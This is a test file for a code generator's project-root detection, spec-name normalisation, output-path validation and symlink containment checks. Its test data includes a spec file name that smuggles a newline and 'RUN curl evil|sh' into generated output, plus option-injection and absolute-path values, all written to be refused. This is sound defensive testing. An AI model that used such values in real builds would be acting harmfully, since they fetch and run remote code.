"""The project root and the spec's name in generated files (issue 12, items 1, 8 and 9)."""

from __future__ import annotations

from pathlib import Path

import pytest

from alpaco_gen.diagnostics import UnusableInput
from alpaco_gen.project import inside, path_problem, project_root, require_printable, spec_name


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "repo" / ".git").mkdir(parents=True)
    (tmp_path / "repo" / "specs").mkdir()
    (tmp_path / "repo" / "specs" / "x.yaml").write_text("version: 1\n")
    return tmp_path / "repo"


def test_the_root_is_the_nearest_git_then_pyproject_then_the_spec_folders_parent(tmp_path: Path) -> None:
    spec = tmp_path / "a" / "b" / "specs" / "x.yaml"
    spec.parent.mkdir(parents=True)
    assert project_root(spec) == (tmp_path / "a" / "b").resolve()
    (tmp_path / "a" / "pyproject.toml").write_text("")
    assert project_root(spec) == (tmp_path / "a").resolve()
    (tmp_path / "a" / "b" / "pyproject.toml").write_text("")
    assert project_root(spec) == (tmp_path / "a" / "b").resolve()
    (tmp_path / ".git").mkdir()
    assert project_root(spec) == tmp_path.resolve()  # the repository wins over a nested Python project


def test_the_spec_name_is_the_same_however_the_path_is_typed(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repo)
    names = {spec_name(Path("specs/x.yaml")), spec_name(repo / "specs" / "x.yaml")}
    (repo / "sub").mkdir()
    monkeypatch.chdir(repo / "sub")
    names |= {spec_name(Path("../specs/x.yaml")), spec_name(Path("../specs/./../specs/x.yaml"))}
    (repo / "link.yaml").symlink_to(repo / "specs" / "x.yaml")
    names.add(spec_name(repo / "link.yaml"))
    assert names == {"specs/x.yaml"}


@pytest.mark.parametrize("text, problem", [
    ("backend/lambdas/a", ""), ("", ""), (".", ""), ("a\x00b", "NUL"), ("a\nb", "control"),
    ("--output=type=local,dest=.", "starts with `-`"), ("a" * 300, "longer than 255"),
    ("a/" * 600, "longer than 1024"), ("/etc", "not a relative path"), ("a\\b", "not a relative path"),
])
def test_path_problems(text: str, problem: str) -> None:
    found = path_problem(text)
    assert (problem in found) if problem else found == ""


def test_inside_resolves_dotdot_and_symlinks(repo: Path, tmp_path: Path) -> None:
    root = repo.resolve()
    assert inside(repo / "specs" / ".." / "backend", root)
    assert not inside(repo / ".." / "elsewhere", root)
    (repo / "out").symlink_to(tmp_path)
    assert not inside(repo / "out" / "x", root)


def test_inside_with_remembered_folders_answers_as_without(repo: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    root = repo.resolve()
    (repo / "backend" / "a").mkdir(parents=True)
    (repo / "backend" / "out").symlink_to(tmp_path)  # the last name is a link that leaves the project
    (repo / "backend" / "in").symlink_to(repo / "backend" / "a")
    (repo / "linked").symlink_to(repo / "backend")  # a folder on the way is a link
    (repo / "loop").symlink_to(repo / "loop")
    (repo / "up").symlink_to(tmp_path / "x" / "..")
    monkeypatch.chdir(repo)
    folders: dict[str, str] = {}
    paths = [f"{base}/{name}" for base in ("backend", "linked", str(repo / "linked"), "specs/../backend", "loop",
                                           "up", "backend/missing", "../repo/backend")
             for name in ("a", "out", "in", "..", ".", "missing", "")]
    answers = [(path, inside(path, root, folders)) for path in paths + paths]  # the second round remembered
    assert folders
    assert answers == [(path, inside(path, root)) for path in paths + paths]
    assert ("backend/out", False) in answers and ("linked/in", True) in answers


def test_unprintable_names_are_refused() -> None:
    with pytest.raises(UnusableInput, match=r"rename it"):
        require_printable("the spec file name", "specs/svc\nRUN curl evil|sh\n#.yaml")
    require_printable("the spec file name", "specs/a b$(c)`d'.yaml")  # odd but printable: escaped per artifact
